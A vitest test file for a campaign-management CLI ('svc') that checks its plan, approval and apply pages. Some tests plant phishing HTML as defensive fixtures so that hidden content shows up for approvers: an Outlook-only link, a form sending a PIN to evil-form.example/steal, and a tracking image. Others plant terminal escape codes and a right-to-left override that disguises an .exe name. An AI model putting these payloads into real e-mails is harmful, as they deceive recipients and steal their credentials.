/**
 * The pages about a campaign (contract, "Campaigns as files"), for examples/campaign and the demo company. They show which records are
 * created, changed, replaced, kept or blocked, with times, sizes, credits and lint findings.
 */
import { cp, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { displayWidth } from '../../../../src/kit/text/display-width.ts';
import { sql } from '../../../../src/sandbox/store/driver/sql.ts';
import { type DemoService, openDemoService } from '../../../support/demo-service.ts';
import { type Outside, runCli } from '../../../support/run-cli.ts';
import { makeKey } from '../../../support/ssh-keys.ts';
import { makeTemporaryFolder } from '../../../support/temporary-folder.ts';

let folder: string;
let demo: DemoService;
beforeEach(async () => {
  folder = await makeTemporaryFolder('campaign-pages');
  await cp('examples/campaign', folder, { recursive: true });
  demo = await openDemoService();
});
afterEach(() => rm(folder, { recursive: true }));

const svc = (line: string, outside: Outside = {}) =>
  runCli(line.split(' '), {
    cwd: folder,
    transport: demo.transport,
    ...outside,
    env: { ...demo.admin, PATH: process.env['PATH'], ...outside.env },
  });
const edit = async (file: string, change: (text: string) => string): Promise<void> => {
  const path = join(folder, file);
  await writeFile(path, change(await readFile(path, 'utf8').catch(() => '')));
};

describe('the page of svc plan', () => {
  it('shows what is sent, to whom, with which limits, and when', async () => {
    const { stdout, exitCode } = await svc('plan spring.yaml');
    expect(exitCode).toBe(0);
    for (const lines of [
      '    e-mail "Spring coffee offers" from Harbour Coffee <news@harbourcoffee.example>\n',
      '    SMS from HarbourCafe\n',
      '    sends message spring to list 1\n' + '    only if it has 300 to 500 subscriptions\n' + '    at ',
      '    sends message reminder to list 3, 500 an hour\n' +
        '    only if it has 1 to 400 subscriptions, takes at most 800 credits\n' +
        '    at ',
      '    click, message spring: send e-mail message thanks, 1 hour later\n',
      '    open, message spring: add to list 2, 2 days later\n',
      'Credits: unknown until 2 tasks exist. Balance: 25000 e-mail, 1500 SMS.\n',
      '7 to create. ',
    ])
      expect(stdout).toContain(lines);
    // London's clocks show UTC in winter, so the time is printed once.
    expect(stdout).toMatch(/^ {4}at Mon .* 09:00:00 \+00:00 \(Europe\/London\), in [0-9].*\n {4}recipients/m);
    expect(stdout).not.toContain('(UTC)');
  });

  it('names the time in UTC beside a local time that differs from it', async () => {
    const { stdout } = await svc('plan spring.yaml --tz Europe/Berlin');
    expect(stdout).toMatch(
      /^ {4}at Mon .* 09:00:00 \+01:00 \(Europe\/Berlin\), in [0-9].*\n {4}that is Mon .* 08:00:00 \+00:00 \(UTC\)\n/m,
    );
  });

  it('is no wider than the terminal', async () => {
    const { stdout } = await svc('plan spring.yaml', { tty: true, columns: 80, env: { NO_COLOR: '1' } });
    const wide = stdout.split('\n').filter((line) => displayWidth(line) > 80);
    // Long addresses are never broken.
    expect(wide).toEqual([]);
    expect(stdout).toContain('thank-you');
  });

  it('has lines at its end that fit, too', async () => {
    await svc('apply spring.yaml --yes');
    await edit('spring.yaml', (text) =>
      text
        .replace('  reminder:', '  last:')
        .replace('message: reminder', 'message: last')
        .replace('loyalty:', 'other:'),
    );
    await edit('content/spring.html', (text) => text.replace('cup', 'mug'));
    const { stdout } = await svc('plan spring.yaml', { tty: true, columns: 80 });
    const end = stdout.slice(stdout.indexOf('Credits: ')).trimEnd().split('\n');
    expect(end.join(' ').replace(/ +/g, ' ')).toMatch(
      / [0-9]+ blocked, .* orphaned and kept\. [0-9]+ requests\.$/,
    );
    expect(Math.max(...end.map(displayWidth))).toBeLessThanOrEqual(80);
  });

  it('does not warn of texts that the service adds: the shipped example has no findings', async () => {
    const { stdout } = await svc('plan spring.yaml');
    expect(stdout).not.toMatch(/warning|error|Lint/);
  });

  it('prints facts of several files once, with their place', async () => {
    await edit('names.json', () => '{"footer": "none"}');
    const { stdout } = await svc('plan spring.yaml', { env: { SVC_NAMING: 'names.json' } });
    expect(stdout.match(/No unsubscribe link in the HTML/g)).toHaveLength(1);
    expect(stdout).toContain('  content/spring.html, content/thanks.html: warning: No unsubscribe link');
  });

  it('names the plan by its digest with --out, as the plan itself does', async () => {
    const page = await svc('plan spring.yaml --out spring.plan');
    const { sha256 } = JSON.parse(await readFile(join(folder, 'spring.plan'), 'utf8'));
    expect(page.stdout).toMatch(new RegExp(`^Plan: sha256 ${sha256}\nValid until \\w{3} `, 'm'));
    const markdown = await svc('plan spring.yaml --out other.plan --format markdown');
    const other = JSON.parse(await readFile(join(folder, 'other.plan'), 'utf8'));
    expect(markdown.stdout).toContain(`Plan: sha256 ${other.sha256}`);
  });

  it('counts the credits of existing items, and has no steps left', async () => {
    expect((await svc('apply spring.yaml --yes')).exitCode).toBe(0);
    const { stdout } = await svc('plan spring.yaml');
    expect(stdout).toMatch(/^Credits: [0-9]+ for 2 tasks\. Balance: /m);
    expect(stdout).toContain('\n7 up to date. ');
  });

  // What a person who approves must see: units of people, and the recipients that a rule loses.
  it('shows delays and weekends in words, and warns of a rule that moves from a sent message', async () => {
    expect((await svc('apply spring.yaml --yes')).exitCode).toBe(0);
    await demo.db.run(sql`update task set completed = 1, started = 1, sent = size, due = null, endtime = scheduledtime
      where name like 'Spring sale to the newsletter%'`);
    const before = await readFile(join(folder, 'spring.yaml'), 'utf8');
    const delay = before
      .replace('after: 2d', 'after: 3d')
      .replace('after: 1h\n    actiononweekend: true', 'after: 30m\n    actiononweekend: false');
    await edit('spring.yaml', () => delay);
    for (const line of [
      'plan spring.yaml',
      'plan spring.yaml --format markdown',
      'plan spring.yaml --out delay.plan',
    ]) {
      const { stdout } = await svc(line);
      expect(stdout).toContain('delay: 2 days later → 3 days later');
      expect(stdout).toContain('delay: 1 hour later → 30 minutes later');
      expect(stdout).toContain('weekends: acts at weekends → does not act at weekends');
      expect(stdout).not.toContain('careful');
      // The sent task costs nothing any more.
      expect(stdout).toMatch(/^Credits: [0-9]+ for 1 task\. /m);
    }
    expect((await svc('plan show delay.plan')).stdout).toContain('delay: 2 days later → 3 days later');
    await edit('spring.yaml', () => before.replace('subject: Spring coffee offers', 'subject: Other offers'));
    const { stdout } = await svc('plan spring.yaml --out moved.plan');
    const [, task = '', size = ''] = /task ([0-9]+) to ([0-9]+); those recipients/.exec(stdout) ?? [];
    expect([Number(task), Number(size)]).toEqual([expect.any(Number), 447]);
    for (const line of ['plan spring.yaml', 'plan spring.yaml --format markdown', 'plan show moved.plan']) {
      const page = (await svc(line)).stdout.replaceAll(/\s+/g, ' ');
      expect(page.match(/careful: message [0-9]+ was sent by task/g)).toHaveLength(2);
      expect(page).toMatch(/message: [0-9]+ → its new version/);
    }
    // A rule of subscriptions does not depend on the message, and a message that was not sent loses nobody.
    await edit('spring.yaml', () => before.replace('subject: Your spring coffee', 'subject: Your coffee'));
    expect((await svc('plan spring.yaml')).stdout).not.toContain('careful');
  });

  it('no name can begin a line of the page or control the terminal', async () => {
    await edit('spring.yaml', (text) =>
      text.replace('name: Spring sale, thanks', 'name: "Thanks\\u2028\\u001b[31m for it"'),
    );
    const { stdout, stderr } = await svc('plan spring.yaml');
    expect(stdout + stderr).not.toContain('\u001b');
  });
});

// Second attack H3: the page that people approve. test/cli/commands/campaign/html-words.test.ts has all ways to hide a text.
it('svc plan show has texts and addresses that only some mail programs show', async () => {
  await edit('content/spring.html', (text) =>
    text.replace(
      '</body>',
      '<!--[if mso]><a href="https://evil-mso.example/">Call us</a><![endif]--><style>p::after{content:"Pay now"}</style>' +
        '<form action="https://evil-form.example/steal"><input value="Your PIN"></form><img src="https://evil-img.example/1" alt=""></body>',
    ),
  );
  expect((await svc('plan spring.yaml --out spring.plan')).exitCode).toBe(0);
  const { stdout } = await svc('plan show spring.plan');
  for (const line of [
    '      only in Outlook ("mso"):\n        "Call us <https://evil-mso.example/>"\n      value: "Your PIN"\n',
    '    styles add text: "Pay now"\n',
    '    link to "https://evil-mso.example/", only in Outlook ("mso")\n',
    '    form sends to "https://evil-form.example/steal"\n    images:\n      "https://evil-img.example/1"\n',
  ])
    expect(stdout).toContain(line);
});

it('svc plan show --format markdown is the same page, in which no text of a message is markup', async () => {
  await edit('content/reminder.txt', () => 'Sale ```\n# Approved by the boss\n<img src=x> @team\n');
  expect((await svc('plan spring.yaml --out spring.plan')).exitCode).toBe(0);
  const page = (await svc('plan show spring.plan')).stdout;
  const { stdout, exitCode } = await svc('plan show spring.plan --format markdown');
  expect(exitCode).toBe(0);
  const lines = stdout.split('\n');
  const isMarkup = (line: string): boolean => /^(?:#|````?(?:text)?$)/.test(line);
  expect(lines.filter((line) => line.startsWith('#'))).toEqual([
    '### Plan of a campaign',
    ...['#### The plan', '#### To create', '#### Approvals: 0'],
  ]);
  const texts = (all: readonly string[]): readonly string[] => all.filter((line) => line.startsWith('  '));
  // A sentence of svc itself needs no code block.
  const own = 'No approvals yet. Run svc approve PLAN.';
  expect([...texts(lines), `  ${own}`]).toEqual(texts(page.split('\n')));
  expect(lines.filter((line) => line !== '' && !line.startsWith('  ') && !isMarkup(line))).toEqual([own]);
  // A fence is longer than the one in the text.
  expect(stdout).toContain('\n````text\n');
});

describe('svc plan --format markdown', () => {
  it('is a table of the steps, and shows names and other texts as text, not as markup', async () => {
    await edit('spring.yaml', (text) =>
      text
        .replace('name: Spring sale\n', 'name: "<img src=x> | [a](https://evil.example) @team #1"\n')
        .replace('subject: Spring coffee offers', 'subject: "*now* `x` ~~y~~"'),
    );
    await edit('names.json', () => '{"footer": "none"}');
    const { stdout, exitCode } = await svc('plan spring.yaml --format markdown', {
      env: { SVC_NAMING: 'names.json' },
    });
    expect(exitCode).toBe(0);
    const row = stdout.split('\n').find((line) => line.startsWith('| create | message | spring |')) ?? '';
    expect(row).toContain('\\<img src=x\\> \\| \\[a\\](https://evil.example) \\@team \\#1');
    expect(row).toContain('e-mail "\\*now\\* \\`x\\` \\~\\~y\\~\\~" from Harbour Coffee \\<news\\@');
    expect(row.replaceAll('\\|', '').match(/\|/g)).toHaveLength(6);
    expect(stdout).toMatch(
      /^### Campaign Spring sale, company 1 \(Harbour Coffee Roasters\)\n\n7 to create\.\n/,
    );
    expect(stdout).toContain('**Findings**\n\n- content/spring.html, content/thanks.html: warning: ');
  });

  it('and that of svc apply show characters that change the order of others as escapes (second attack L9)', async () => {
    await edit('spring.yaml', (text) =>
      text
        .replaceAll('campaign: Spring sale', 'campaign: "Spring \\u202Esale"')
        .replace('name: Spring sale\n', 'name: "Sale \\u202Egpj.exe"\n'),
    );
    const plan = await svc('plan spring.yaml --format markdown');
    const apply = await svc('apply spring.yaml --yes --format markdown');
    for (const { stdout, exitCode, stderr } of [plan, apply]) {
      expect(exitCode, stderr).toBe(0);
      expect(stdout).toContain('### Campaign Spring \\\\u\\{202e\\}sale');
      expect(stdout).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    }
    expect(plan.stdout).toContain('Sale \\\\u\\{202e\\}gpj.exe');
  });
});

describe('svc apply', () => {
  it('shows the plan and who approved it before it changes anything', async () => {
    const key = await makeKey(folder, 'ada');
    await writeFile(join(folder, 'team.signers'), `ada@example.com ${key.line}\n`);
    await svc('plan spring.yaml --out spring.plan');
    await svc('approve spring.plan --identity ada --name ada --yes');
    const run = await svc('apply spring.plan --approvals 1 --signers team.signers --format markdown --yes');
    expect(run.exitCode, run.stderr).toBe(0);
    const [before = ''] = run.stderr.split('created message spring');
    for (const words of ['sends message spring to list 1', 'Approved by ada@example.com']) {
      expect(before).toContain(words);
    }
    expect(run.stdout).toMatch(
      /^### Campaign Spring sale\n\n7 steps done\.\n\nApproved by ada\\@example\.com\.\n\n\| \| kind \|/,
    );
    expect(run.stdout).toMatch(/^\| create \| task \| newsletter \| [0-9]+ \| .* \| yes \| 447 \| {2}\|$/m);
    const again = await svc('apply spring.plan --approvals 1 --signers team.signers --format markdown --yes');
    expect([again.exitCode, again.stdout.includes('Nothing was changed.')]).toEqual([0, true]);
  });

  it('the summary names blocked steps, and why', async () => {
    await svc('apply spring.yaml --yes');
    const task = JSON.parse((await svc('task list -o json')).stdout).find(({ name }: { name: string }) =>
      name.startsWith('Spring sale to the newsletter'),
    );
    await svc(`task cancel ${task.id} --yes`);
    const run = await svc('apply spring.yaml --format markdown --yes');
    expect(run.exitCode).toBe(5);
    expect(run.stdout).toContain('Nothing was changed, 1 blocked.');
    expect(run.stdout).toContain('was cancelled by hand |');
  });

  // Contract, "The everyday screen": "A write on a terminal prints what was done in one or two lines …; the record is shown with `-o`,
  // `--json`, `--fields` or `--verbose`."
  describe('on a terminal of 80 columns', () => {
    const onTerminal = (line: string, answers: readonly boolean[] = [true]) =>
      svc(line, { tty: true, columns: 80, answers, env: { NO_COLOR: '1' } });

    it('ends with the result, the recipients, the time, and the next command to type', async () => {
      const run = await onTerminal('apply spring.yaml');
      expect(run.stdout).toBe(
        [
          'Applied "Spring sale": 7 created.',
          '- task 5 "Spring sale to the newsletter": to 447 on list 1, Mon 2026-12-07 09:00',
          '  Europe/London',
          '- task 6 "Spring sale, last day": to 211 on list 3, Fri 2026-12-11 09:00',
          '  Europe/London',
          'Next: svc task watch 5',
          '',
        ].join('\n'),
      );
    });

    it('says only once that nothing changes', async () => {
      await svc('apply spring.yaml --yes');
      const run = await onTerminal('apply spring.yaml', []);
      expect(run.stdout).toMatch(/^No changes\. 7 items are up to date\. [0-9]+ requests\.\n$/);
      expect(run.stderr).not.toContain('No changes');
    });

    it('counts blocked steps beside completed ones', async () => {
      await svc('apply spring.yaml --yes');
      await svc('task cancel 5 --yes');
      const run = await onTerminal('apply spring.yaml');
      expect([run.exitCode, run.stdout]).toEqual([5, 'Nothing was changed: 1 blocked, 6 up to date.\n']);
      expect(run.stderr).toContain('1 step is blocked');
    });

    it('says in a dry run that nothing was changed', async () => {
      const run = await onTerminal('apply spring.yaml --dry-run', []);
      expect([run.exitCode, run.stdout]).toEqual([0, 'Nothing was changed: 7 to create.\n']);
    });

    it.each(['-o table', '--verbose', '--fields action,key'])('shows the rows with %s', async (flags) => {
      const run = await onTerminal(`apply spring.yaml ${flags}`);
      const lines = run.stdout.trimEnd().split('\n');
      expect(lines[0]).toMatch(/^ACTION +(KIND +)?KEY/);
      expect(lines.slice(1).filter((line) => !/^create /.test(line))).toEqual([]);
      expect(lines).toHaveLength(8);
    });
  });
});
